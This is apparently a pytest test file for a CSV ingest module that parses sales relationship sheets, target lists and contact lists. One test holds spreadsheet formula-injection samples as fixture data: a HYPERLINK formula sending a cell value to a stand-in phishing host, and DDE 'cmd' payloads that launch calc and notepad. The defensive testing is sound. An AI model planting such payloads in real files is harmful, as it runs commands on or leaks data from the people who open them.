"""Team sheets (relationships, targets), plain contact lists and user-mapped CSVs, on the real samples."""

from __future__ import annotations

from datetime import date

import pytest

from graphapp.errors import InputError
from graphapp.model import RelationshipKind
from ingest.files import Limits, Source, read_source, read_table
from ingest.formats.team import CSV_FORMATS, parse_mapped, profession_from_notes
from ingest.records import OWNER, ParsedFile, rep_by_email
from tests.ingest.helpers import SAMPLES, parse_csv

FORMATS = {f.name: f for f in CSV_FORMATS}
REL_HEADER = "rep_email,person_name,person_email,person_linkedin,company,relationship,profession,since,last_contact,notes"
THEO = "theo.marchbanks@tidewell.example.com"


def parse(source: Source, fmt_name: str) -> ParsedFile:
    return parse_csv(source, FORMATS[fmt_name])


def sample(path: str, fmt_name: str) -> ParsedFile:
    return parse(read_source(SAMPLES / path), fmt_name)


def inline(text: str, fmt_name: str, encoding: str = "utf-8") -> ParsedFile:
    return parse(Source("inline.csv", text.encode(encoding)), fmt_name)


def counts(report: ParsedFile) -> tuple[int, int]:
    return report.rows_accepted, report.rows_rejected


def errors(report: ParsedFile) -> list[str]:
    return [i.reason for i in report.errors]


def warnings(report: ParsedFile) -> list[tuple[int | None, str]]:
    return [(i.row, i.reason) for i in report.issues if i.severity == "warning"]


# --- relationships.csv ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def relationships() -> ParsedFile:
    return sample("relationships.csv", "team-relationships")


def tie_for(report: ParsedFile, email: str):
    (contact,) = [c for c in report.contacts if email in c.emails][:1]
    return contact, next(t for t in report.ties if t.b == contact.ref)


def test_relationships_counts_and_reasons(relationships):
    assert relationships.team_file is True
    assert counts(relationships) == (28, 3)
    assert sorted(errors(relationships)) == [
        "empty rep_email: no owner",
        "no person: no name, e-mail or LinkedIn URL",
        "relationship 'vendor' is not a known type",
    ]
    assert len(relationships.ties) == len(relationships.contacts) == 28


def test_relationships_ties_from_the_rep(relationships):
    contact, tie = tie_for(relationships, "kate.ashdown@brackenridge.example.com")
    assert (tie.a, tie.kind, tie.fact) == (rep_by_email(THEO), RelationshipKind.CUSTOMER, "relationship-sheet")
    assert (tie.first_seen, tie.last_interaction) == (date(2022, 5, 10), date(2025, 9, 3))
    assert contact.linkedin_url == "https://www.linkedin.com/in/katherine-ashdown-bcs"
    assert contact.company == "Brackenridge Cold Storage"
    # The exact duplicate row is accepted too; the service de-duplicates.
    assert len([c for c in relationships.contacts if "kate.ashdown@brackenridge.example.com" in c.emails]) == 2


def test_relationships_values_are_normalised(relationships):
    kinds = {t.kind for t in relationships.ties}
    assert kinds == {RelationshipKind.CUSTOMER, RelationshipKind.INFLUENCER, RelationshipKind.PARTNER,
                     RelationshipKind.REFERRAL, RelationshipKind.KNOWS, RelationshipKind.COLLEAGUE}
    _, tobias = tie_for(relationships, "tobias.wetherby@grishamfoods.example.com")
    assert tobias.kind is RelationshipKind.KNOWS  # " Friend " trimmed and lower-cased
    gideon = [c for c in relationships.contacts if "gideon@bramblewood.example.com" in c.emails]
    assert len(gideon) == 2  # the upper-case e-mail is normalised
    renata, _ = tie_for(relationships, "r.hargreaves@tavistockmedical.example.net")
    assert renata.linkedin_url == "https://www.linkedin.com/in/renata-hargreaves-tmp"
    jose, _ = tie_for(relationships, "jose.nunez@halvorsendental.example.org")
    assert jose.name == "José Núñez"
    fitch_names = {c.name for c in relationships.contacts if "hfitch@ostrandervail.example.com" in c.emails}
    assert fitch_names == {"Harold Fitch"}  # "Harold Fitch, CPA": credential dropped


def test_relationships_profession_column_and_from_notes(relationships):
    _, imogen = tie_for(relationships, "imogen@studioortolan.example.net")
    assert imogen.profession == "architect"  # notes: "Architect - healthcare interiors."
    _, magnus = tie_for(relationships, "magnus@keystoneridge.example.com")
    assert magnus.profession == "commercial real estate broker"
    _, kate = tie_for(relationships, "kate.ashdown@brackenridge.example.com")
    assert kate.profession is None


def test_relationships_year_only_since_and_impossible_date(relationships):
    _, fitch = tie_for(relationships, "hfitch@ostrandervail.example.com")
    assert fitch.first_seen == date(2021, 1, 1)
    _, lachlan = tie_for(relationships, "lachlan.merriman@example.net")
    assert lachlan.first_seen == date(2008, 1, 1)
    _, rowena = tie_for(relationships, "rkilbride@tenfoldcs.example.org")
    assert (rowena.first_seen, rowena.last_interaction) == (date(2022, 1, 31), None)
    assert warnings(relationships) == [(rowena.row, "last_contact '2025-02-30' is not a valid date; left empty")]
    assert rowena.row not in {i.row for i in relationships.errors}


def test_relationships_header_only_is_zero_rows_not_an_error():
    report = sample("edge/header_only.csv", "team-relationships")
    assert (report.rows_read, report.rows_rejected, report.issues) == (0, 0, [])


def test_from_columns_make_a_person_to_person_tie():
    report = inline(
        "rep_email,from_name,from_email,from_linkedin,person_name,person_email,relationship,profession\n"
        f"{THEO},\"Quill, Ada\",ada@cpa.example.com,,Bo Client,bo@client.example.com,client,\n"
        f"{THEO},,,,Cy Direct,cy@example.com,customer,\n",
        "team-relationships",
    )
    assert counts(report) == (2, 0)
    ada = next(c for c in report.contacts if c.emails == ("ada@cpa.example.com",))
    bo = next(c for c in report.contacts if c.emails == ("bo@client.example.com",))
    assert ada.name == "Ada Quill"
    first, second = report.ties
    assert (first.a, first.b, first.kind) == (ada.ref, bo.ref, RelationshipKind.CUSTOMER)
    assert second.a == rep_by_email(THEO)


def test_header_in_other_case_and_order_with_extra_columns():
    report = inline(
        "Notes,Relationship,Person_Email,Extra Column,REP_EMAIL,Person_Name,Since,Last_Contact,Profession\n"
        f"Our insurance agent,INFLUENCER,ivy@example.com,ignored,{THEO.upper()},Ivy Example,2020,2024-06-01,\n"
        f",Teammate,tom@example.com,x,{THEO},Tom Mate,,,\n"
        f",referral source,rae@example.com,x,{THEO},Rae Ferral,,,\n",
        "team-relationships",
    )
    assert counts(report) == (3, 0)
    ivy, tom, rae = report.ties
    assert (ivy.a, ivy.kind, ivy.profession, ivy.first_seen) == (
        rep_by_email(THEO), RelationshipKind.INFLUENCER, "insurance agent", date(2020, 1, 1))
    assert tom.kind is RelationshipKind.TEAMMATE and rae.kind is RelationshipKind.REFERRAL


def test_relationship_rejections_and_value_warnings():
    report = inline(
        REL_HEADER + "\n"
        f"{THEO},Al,,,,,,,,\n"
        f"not-an-email,Al,,,,customer,,,,\n"
        f"{THEO},,bad-address,not-a-url,,customer,,,,\n"
        f"{THEO},Al,al@example,linkedin.com/company/acme,,knows,,,,\n",
        "team-relationships",
    )
    assert errors(report) == [
        "empty relationship: no type",
        "rep_email 'not-an-email' is not an e-mail address",
        "no person: no name, e-mail or LinkedIn URL",
    ]
    assert counts(report) == (1, 3)
    assert report.contacts[0].emails == () and report.contacts[0].linkedin_url is None
    assert len(warnings(report)) == 4  # two unusable e-mails, two unusable URLs


def test_profession_from_notes():
    assert profession_from_notes("Refers clients; our CPA since 2019") == "CPA"
    assert profession_from_notes("Attorney at Example LLP") == "attorney"
    assert profession_from_notes("Commercial real estate broker, downtown") == "commercial real estate broker"
    assert profession_from_notes("Monthly coffee.") is None
    assert profession_from_notes(None) is None


# --- targets.csv ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def targets() -> ParsedFile:
    return sample("targets.csv", "team-targets")


def test_targets_counts_and_reasons(targets):
    assert targets.team_file is True
    assert counts(targets) == (10, 2)
    assert errors(targets) == ["no account and no domain", "priority 'urgent' is not high, medium or low"]
    assert len(targets.targets) == len(targets.companies) == 10


def test_targets_domains_are_normalised(targets):
    by_account = {t.account: t for t in targets.targets}
    pemaquid = [t for t in targets.targets if t.account and t.account.startswith("Pemaquid")]
    assert len(pemaquid) == 2  # two rows here; the service merges them by domain
    assert pemaquid[0].domain == pemaquid[1].domain == "pemaquidtextiles.example.net"
    assert by_account["Quarry Hill Brewing Co."].domain == "quarryhillbrewing.example.com"
    assert by_account["Sundial Credit Union"].domain == "sundialcu.example.org"
    hanul = by_account["Hanul Semiconductor"]
    assert (hanul.domain, hanul.priority, hanul.owner_rep_email) == (None, "low", THEO)
    company = next(c for c in targets.companies if c.row == hanul.row)
    assert (company.name, company.domains, company.is_target, company.fact) == ("Hanul Semiconductor", (), True, "target")


def test_target_defaults_and_warnings():
    report = inline(
        "Priority,Domain,Account,Owner_Rep_Email,Region\n"
        ",HTTPS://WWW.Acme.example.com/,,,East\n"
        "LOW,not a domain,Beta Co,nobody,West\n"
        "high,??,,,\n",
        "team-targets",
    )
    assert counts(report) == (2, 1)
    acme, beta = report.targets
    assert (acme.account, acme.domain, acme.priority, acme.owner_rep_email) == (None, "acme.example.com", "medium", None)
    assert report.companies[0].name == "acme.example.com"
    assert (beta.domain, beta.priority) == (None, "low")
    assert len(warnings(report)) == 2
    assert errors(report) == ["no account, and domain '??' is not a domain name"]


# --- contact lists and the edge files ------------------------------------------------------------


def test_latin1_contact_list_is_decoded_as_cp1252_with_a_warning():
    report = sample("edge/latin1.csv", "contact-list")
    assert counts(report) == (6, 0)
    assert [row for row, reason in warnings(report) if "Windows-1252" in reason] == [None]
    names = [c.name for c in report.contacts]
    assert "Anaïs Lefèvre" in names and "Søren Kjærgaard" in names and "Renée O’Dowd" in names
    anais = next(c for c in report.contacts if c.name == "Anaïs Lefèvre")
    assert anais.emails == ("anais.lefevre@cremerie-beaulieu.example.net",)
    assert anais.company == "Crémerie Beaulieu SARL"
    assert all(t.a == OWNER and t.kind is RelationshipKind.KNOWS and t.fact == "contact-list" for t in report.ties)


def test_ragged_rows_are_rejected_with_line_numbers():
    report = sample("edge/ragged.csv", "contact-list")
    assert counts(report) == (3, 2)
    assert errors(report) == ["expected 5 fields, saw 6 (line 3)", "expected 5 fields, saw 2 (line 5)"]
    assert [c.name for c in report.contacts] == ["Jasper Hensley", "Tobias Wetherby", "Noor Chaudhry"]


def test_formula_cells_are_stored_verbatim():
    report = sample("edge/formula_cells.csv", "contact-list")
    assert counts(report) == (5, 0)
    first = report.contacts[0]
    assert first.name == '=HYPERLINK("http://phish.example.net/?id="&B2,"View profile")'
    assert first.emails == ("gregory.ellingham@elmsteadpropertytrust.example.org",)
    assert report.contacts[1].company == "+cmd|' /C calc'!A0"
    assert report.contacts[2].title == "-2+3+cmd|' /C notepad'!A0"
    assert report.contacts[4].phones == ("+1 (212) 555-0147",)


def test_long_cell_is_truncated_with_a_warning_and_both_rows_import():
    report = sample("edge/long_cell.csv", "contact-list")
    assert counts(report) == (2, 0)
    (warning,) = [i for i in report.issues if i.severity == "warning"]
    assert (warning.row, warning.column) == (2, "notes") and "truncated" in warning.reason
    assert [c.name for c in report.contacts] == ["Barnaby Stanhope", "Verity Lockhart"]


@pytest.mark.parametrize(("path", "message"), [("edge/empty.csv", "empty"), ("edge/not_a_csv.csv", "not a text/CSV file")])
def test_unreadable_files_raise_from_read_table(path, message):
    with pytest.raises(InputError, match=message):
        read_table(read_source(SAMPLES / path), FORMATS["contact-list"].matches)


def test_contact_list_rejects_a_row_naming_nobody_and_reads_linkedin_column():
    report = inline(
        "Name,E-mail,Email,LinkedIn URL,Job Title,Organization,Phone\n"
        ",,,,CFO,Acme,555-0100\n"
        "\"Example, Sam\",,SAM@EXAMPLE.COM,www.linkedin.com/in/Sam-Example/,CFO,Acme,\n"
        ",,,linkedin.com/in/only-url,,,\n",
        "contact-list",
    )
    assert counts(report) == (2, 1)
    assert errors(report) == ["no person: no name, e-mail or LinkedIn URL"]
    sam, url_only = report.contacts
    assert (sam.name, sam.emails, sam.linkedin_url) == ("Sam Example", ("sam@example.com",),
                                                         "https://www.linkedin.com/in/sam-example")
    assert (sam.title, sam.company) == ("CFO", "Acme")
    assert url_only.linkedin_url == "https://www.linkedin.com/in/only-url"


def test_contact_list_format_does_not_claim_team_sheets():
    cells = ["rep_email", "name", "email", "relationship"]
    assert FORMATS["team-relationships"].matches(cells)
    assert not FORMATS["contact-list"].matches(cells)
    assert FORMATS["contact-list"].matches(["name", "email", "company"])


# --- parse_mapped --------------------------------------------------------------------------------

MAPPED = "Given,Family,Mail,Employer,Ignored\nAda,Quill,ada@example.com,Acme,x\n,,,,only ignored\n"


def parse_with(mapping: dict[str, str], text: str = MAPPED) -> ParsedFile:
    source = Source("custom.csv", text.encode("utf-8"))
    table = read_table(source, lambda cells: "mail" in cells)
    report = ParsedFile(source.name, source.size, source.sha256, "mapped")
    parse_mapped(table, report, Limits(), mapping)
    return report


def test_parse_mapped_reads_rows_as_a_contact_list():
    report = parse_with({"given": "first_name", "FAMILY": "last_name", "Mail": "email", "employer": "company"})
    assert counts(report) == (1, 1)
    (ada,) = report.contacts
    assert (ada.name, ada.first_name, ada.last_name, ada.emails, ada.company) == (
        "Ada Quill", "Ada", "Quill", ("ada@example.com",), "Acme")
    assert report.ties[0].a == OWNER and report.ties[0].kind is RelationshipKind.KNOWS


def test_parse_mapped_unknown_field():
    with pytest.raises(InputError, match=r"unknown field\(s\) 'nickname'.*fields: name, first_name"):
        parse_with({"Mail": "email", "Given": "nickname"})


def test_parse_mapped_column_not_in_file():
    with pytest.raises(InputError, match=r"'Surname' not in the file; columns found: Given, Family, Mail"):
        parse_with({"Mail": "email", "Surname": "last_name"})


def test_parse_mapped_needs_an_identifying_field():
    with pytest.raises(InputError, match="none of name, first_name, last_name, email or linkedin"):
        parse_with({"Employer": "company"})
